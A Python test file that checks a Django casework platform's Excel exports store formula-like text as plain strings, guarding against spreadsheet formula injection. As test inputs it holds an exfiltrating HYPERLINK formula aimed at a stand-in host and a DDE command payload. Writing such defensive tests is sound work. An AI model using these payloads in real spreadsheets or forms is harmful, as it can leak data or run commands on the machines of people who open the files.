"""Every Excel file the platform writes keeps text that looks like a formula as text
(core.xlsx), read back from the downloaded files with openpyxl."""

from __future__ import annotations

import io

import pytest
from openpyxl import Workbook, load_workbook

from lianxin.casework.tests.helpers import client_for, demo_seat, new_opinion, station
from lianxin.core.xlsx import is_risky, workbook_bytes

pytestmark = pytest.mark.django_db

FORMULAS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"点击查看")',
    "+1+1",
    "-2+3",
    "@SUM(A1:A2)",
    "\t=1+1",
]


def cells_starting(content: bytes, prefixes) -> dict[str, str]:
    """Every cell of every sheet whose value starts with one of `prefixes`: value → type."""
    wb = load_workbook(io.BytesIO(content))
    return {
        c.value: c.data_type
        for ws in wb.worksheets
        for row in ws.iter_rows()
        for c in row
        if isinstance(c.value, str) and c.value.startswith(tuple(prefixes))
    }


def test_text_a_spreadsheet_would_read_as_a_formula_is_risky():
    assert all(is_risky(v) for v in [*FORMULAS, "\r=1+1"])
    assert not any(is_risky(v) for v in ["北关街道", "1+1", "", None, 12, "a=b"])


def test_the_guard_writes_every_risky_cell_as_unchanged_text():
    wb = Workbook()
    ws = wb.active
    ws.append(FORMULAS)
    ws["A3"] = "=1+2"
    wb.create_sheet("二").cell(row=1, column=1, value="=3*3")
    found = cells_starting(workbook_bytes(wb), ["=", "+", "-", "@", "\t", "\r"])
    assert found == {**dict.fromkeys(FORMULAS, "s"), "=1+2": "s", "=3*3": "s"}


def test_a_formula_in_an_opinion_stays_text_in_the_logs_export():
    name = '=HYPERLINK("http://x.cn","赵")'
    text = "=1+1 小区路灯不亮"
    case = new_opinion(text, contact_name=name, contact_phone="13812345678")
    day = case.created_at.date().isoformat()
    response = client_for("yc_staff").get(
        "/logs/export/",
        {"kind": "contact", "deputy": demo_seat().pk, "from": day, "to": day, "format": "xlsx"},
    )
    assert response.status_code == 200, response.content[:500]
    found = cells_starting(response.content, ["="])
    assert found.get(name) == "s" and found.get(text) == "s", found


def test_a_formula_in_an_opinion_stays_text_in_the_case_list_export():
    text = "=cmd|' /C calc'!A0 导出注入测试"
    case = new_opinion(text, contact_name="+赵群众")
    response = client_for("yc_staff").get("/cases/export.xlsx", {"q": "导出注入测试"})
    assert response.status_code == 200
    found = cells_starting(response.content, ["=", "+"])
    assert case.display_title in found and set(found.values()) == {"s"}, found


def test_imported_station_fields_stay_text_in_the_station_export(api):
    s = station()
    s.__class__.objects.filter(pk=s.pk).update(address="=1+1 顺城街", name="@北关街道联络站")
    response = api.as_user("yc_staff").get("/api/v1/stations/export.xlsx")
    assert response.status_code == 200
    found = cells_starting(response.content, ["=1+1 顺城街", "@北关街道联络站"])
    assert found == {"=1+1 顺城街": "s", "@北关街道联络站": "s"}


def test_a_formula_in_a_suggestion_title_stays_text_in_the_special_report():
    from lianxin.casework.models import Case
    from lianxin.suggestions.tests.helpers import advance, city, new_suggestion, open_session

    session = open_session()
    title = "=1+1关于公式注入测试的建议"
    case = advance(new_suggestion(title), "assigned")
    Case.objects.filter(pk=case.pk).update(is_overdue=True)
    url = f"/suggestions/report/?congress={city().pk}&session={session.pk}&format=xlsx"
    response = client_for("jz_staff").get(url)
    assert response.status_code == 200
    assert cells_starting(response.content, ["=1+1关于"]) == {title: "s"}
